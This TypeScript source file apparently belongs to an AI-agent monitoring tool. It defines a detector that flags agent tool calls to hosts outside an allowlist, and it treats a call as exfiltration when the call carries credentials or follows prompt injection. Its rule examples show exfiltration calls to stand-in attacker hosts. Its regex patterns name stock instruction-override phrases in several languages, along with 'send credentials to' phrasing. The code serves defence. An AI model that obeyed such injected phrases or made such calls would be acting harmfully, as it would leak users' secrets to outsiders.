/**
 * Tool calls that reach hosts outside config.toolHostAllowlist. When the same arguments carry a credential, or the
 * call follows an injection signal in this interaction's documents / tool results, it is exfiltration via tool
 * invocation (critical). Off while the allowlist is empty: without one, no host is "outside".
 */
import RE2 from 're2';
import type { Detection, RuleMeta, Channel } from '@tracehound/core';
import { findSecrets, SECRET_LABEL } from '@tracehound/core/privacy';
import type { DetectionConfig } from '../config.js';
import type { ContentDetector } from '../detector.js';
import { ATLAS, OWASP, safeText, type LeakDetectInput } from './common.js';
import { extractToolTargets, hostAllowed } from './tool-targets.js';

export const TOOL_HOST_RULES: readonly RuleMeta[] = [
  {
    id: 'TH-TOOL-001',
    name: 'Tool call to a host outside the allowlist',
    category: 'tool_misuse',
    severity: 'high',
    description:
      'A tool call reaches a host (from the tool target URL/host, or a URL or host field in the arguments) that matches no entry of detection.toolHostAllowlist. Off when the allowlist is empty.',
    example: 'fetch_url {"url": "https://paste.attacker.net/new"} while only *.corp.example is allowed.',
    falsePositives:
      'Legitimate hosts missing from the allowlist; URLs the model merely mentions in an argument (e.g. a message body).',
    owasp: [OWASP.excessiveAgency],
    atlas: [ATLAS.agentToolInvocation],
    channels: ['tool_call'],
  },
  {
    id: 'TH-TOOL-002',
    name: 'Exfiltration via tool call',
    category: 'data_exfiltration',
    severity: 'critical',
    description:
      'A tool call to a host outside the allowlist whose arguments also carry a credential, or that follows an injection signal in a retrieved document or tool result of the same interaction.',
    example:
      'After reading a poisoned web page, the agent calls http_post {"url": "https://x.attacker.net", "body": "sk-proj-…"}.',
    falsePositives: 'An unlisted but legitimate host receiving a token by design (add it to the allowlist).',
    owasp: [OWASP.excessiveAgency, OWASP.sensitiveInfo],
    atlas: [ATLAS.exfiltrationViaTool, ATLAS.agentToolInvocation],
    channels: ['tool_call'],
  },
];

const LEAK_RULE_PREFIXES = ['TH-SEC-', 'TH-PII-', 'TH-LEAK-', 'TH-TOOL-', 'TH-REF-'];

/**
 * Stand-in injection cues for when the engine does not pass prior detections: a few unambiguous instruction-override
 * and exfiltration phrasings in retrieved content. The injection detectors are the real judges.
 */
const INJECTION_CUES = new RE2.Set(
  [
    String.raw`(?i)\b(?:ignore|disregard|forget|override)\s+(?:all\s+|any\s+|the\s+|your\s+)*(?:previous|prior|above|earlier|preceding|system)\s+(?:instructions|prompts?|rules|directions)`,
    String.raw`(?i)\b(?:send|forward|post|upload|exfiltrate|email|transmit|leak)\s+(?:all\s+|the\s+|any\s+|every\s+|your\s+)*(?:data|contents?|conversation|chat\s+history|credentials|secrets?|api\s+keys?|tokens?|passwords?|files?|documents?|emails?)\s+to\b`,
    String.raw`(?i)(?:^|\n)\s*(?:new|updated|important)\s+(?:system\s+)?instructions?\s*:`,
    String.raw`(?i)<\|?im_start\|?>\s*system|\[/?(?:system|INST)\]`,
    String.raw`(?i)\bignor(?:ez|iere|a|e)\s+(?:todas\s+|toutes\s+|alle\s+)?(?:las\s+|les\s+|die\s+|le\s+)?(?:instrucciones|instructions|anweisungen|istruzioni)`,
    String.raw`忽略(?:之前|以上|前面|所有)的?(?:指令|指示|说明)`,
  ],
  { anchor: 'unanchored' },
);

function injectionSignal(input: LeakDetectInput): 'prior-detection' | 'cue' | undefined {
  for (const d of input.priorDetections ?? []) {
    if (
      (d.channel === 'document' || d.channel === 'tool_result') &&
      !LEAK_RULE_PREFIXES.some((p) => d.ruleId.startsWith(p))
    ) {
      return 'prior-detection';
    }
  }
  for (const t of input.texts) {
    if ((t.channel === 'document' || t.channel === 'tool_result') && INJECTION_CUES.test(t.text)) return 'cue';
  }
  return undefined;
}

export function createToolHostDetector(config: DetectionConfig): ContentDetector {
  const allowlist = config.toolHostAllowlist.filter((h) => typeof h === 'string' && h.trim().length > 0);
  return {
    id: 'tool_host',
    rules: TOOL_HOST_RULES,
    detect(input: LeakDetectInput): Detection[] {
      if (allowlist.length === 0) return [];
      const args = input.texts.filter((t) => t.channel === 'tool_call' && t.origin === 'raw').map((t) => t.text);
      if (args.length === 0 && !input.interaction.tool) return [];
      const targets = extractToolTargets(input.interaction, args);
      // Hosts are shown sanitized: a DNS-exfiltration subdomain can itself carry the stolen data.
      const outside = targets.hosts.filter((h) => !hostAllowed(h, allowlist)).map((h) => safeText(h));
      if (outside.length === 0) return [];

      const secrets = args.flatMap((a) => findSecrets(a)).filter((s) => s.confidence >= 0.5);
      const signal = injectionSignal(input);
      const tool = safeText(
        input.interaction.tool?.name ?? input.interaction.output.flatMap((m) => m.toolCalls ?? [])[0]?.name ?? 'tool',
      );
      const hostList = outside.slice(0, 5).join(', ');
      const channel: Channel = 'tool_call';
      if (secrets.length > 0 || signal) {
        const why = [
          secrets.length > 0 ? `arguments carry ${SECRET_LABEL[secrets[0].kind]}` : '',
          signal ? 'follows an injection signal in retrieved content or a tool result' : '',
        ]
          .filter(Boolean)
          .join('; ');
        return [
          {
            ruleId: 'TH-TOOL-002',
            confidence: secrets.length > 0 && signal ? 1 : 0.9,
            channel,
            evidence: `${tool} → ${hostList} (not allowlisted); ${why}`,
            details: {
              tool,
              hosts: outside.slice(0, 10),
              secretKinds: [...new Set(secrets.map((s) => s.kind))],
              injectionSignal: signal ?? 'none',
            },
          },
        ];
      }
      return [
        {
          ruleId: 'TH-TOOL-001',
          confidence: 0.8,
          channel,
          evidence: `${tool} → ${hostList} (not allowlisted)`,
          details: { tool, hosts: outside.slice(0, 10) },
        },
      ];
    },
  };
}
